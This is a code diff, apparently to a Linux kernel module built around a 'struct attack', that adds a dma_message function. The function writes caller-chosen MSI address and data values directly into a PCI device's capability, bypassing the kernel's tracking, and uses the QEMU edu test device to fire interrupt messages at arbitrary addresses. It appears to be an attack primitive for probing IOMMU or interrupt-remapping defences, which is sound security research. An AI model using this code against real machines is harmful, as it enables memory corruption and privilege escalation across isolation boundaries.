@@ -175,3 +175,40 @@ long dma_scan(struct attack *a)
 	edu_close(&edu);
 	return error;
 }
+
+/* --- interrupt messages -------------------------------------------------------------------- */
+
+#define EDU_RAISE	0x60
+#define EDU_LOWER	0x64
+
+/* Straight into the capability, past what this kernel thinks of it. */
+static void aim(struct pci_dev *device, u64 address, u16 data, bool on)
+{
+	int at = device->msi_cap;
+
+	pci_write_config_dword(device, at + PCI_MSI_ADDRESS_LO, (u32)address);
+	pci_write_config_dword(device, at + PCI_MSI_ADDRESS_HI, address >> 32);
+	pci_write_config_word(device, at + PCI_MSI_DATA_64, data);
+	pci_write_config_word(device, at + PCI_MSI_FLAGS,
+			      PCI_MSI_FLAGS_64BIT | (on ? PCI_MSI_FLAGS_ENABLE : 0));
+}
+
+long dma_message(struct attack *a)
+{
+	struct edu edu = { 0 };
+	long error = edu_open(&edu, a->in[0]);
+
+	if (error)
+		return error;
+	if (edu.device->msi_cap) {
+		aim(edu.device, a->in[1], a->in[2], true);
+		writel(1, edu.registers + EDU_RAISE);
+		msleep(1);
+		writel(1, edu.registers + EDU_LOWER);
+		aim(edu.device, 0, 0, false);
+	} else {
+		error = -ENXIO;
+	}
+	edu_close(&edu);
+	return error;
+}
